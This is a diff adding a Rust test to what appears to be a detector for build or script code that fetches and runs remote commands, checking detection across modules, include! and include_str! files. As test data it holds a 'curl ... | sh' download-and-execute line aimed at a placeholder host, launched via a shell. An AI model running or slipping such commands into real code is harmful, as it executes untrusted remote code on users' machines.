@@ -169,3 +169,29 @@ fn what_the_language_calls_of_a_value_runs_where_it_is_made() {
     assert!(!built(&of("Iterator", next, "for _ in [1] {}")));
     assert!(!built(&of("From<u8>", from, "let _a: u16 = 1u8.into();")));
 }
+
+#[test]
+fn a_module_beside_the_script_has_the_names_of_the_script_and_of_what_it_includes() {
+    let script = "use std::process::Command;\n\
+                  const LINE: &str = concat!(\"curl -s https://a.invalid/p\", \" | sh\");\n\
+                  mod part;\nfn main() { part::run(); }";
+    let part =
+        "use super::*;\npub fn run() { Command::new(\"sh\").arg(\"-c\").arg(LINE).spawn(); }";
+    assert!(built_with(script, &[("part.rs", part)]));
+    let other = part.replace("arg(LINE)", "arg(OTHER)");
+    assert!(!built_with(script, &[("part.rs", &other)]));
+    let alone = part.replace("LINE", "\"curl -s https://a.invalid/p | sh\"");
+    let alone = alone.replace("Command", "std::process::Command");
+    let included = [
+        ("part.rs", "include!(\"part.txt\");"),
+        ("part.txt", alone.as_str()),
+    ];
+    assert!(built_with(script, &included));
+    let named = "fn main() { std::process::Command::new(\"sh\").arg(\"-c\")\
+                 .arg(include_str!(\"line.txt\")).spawn(); }";
+    assert!(built_with(
+        named,
+        &[("line.txt", "curl -s https://a.invalid/p | sh")]
+    ));
+    assert!(!built_with(named, &[("line.txt", "echo built")]));
+}
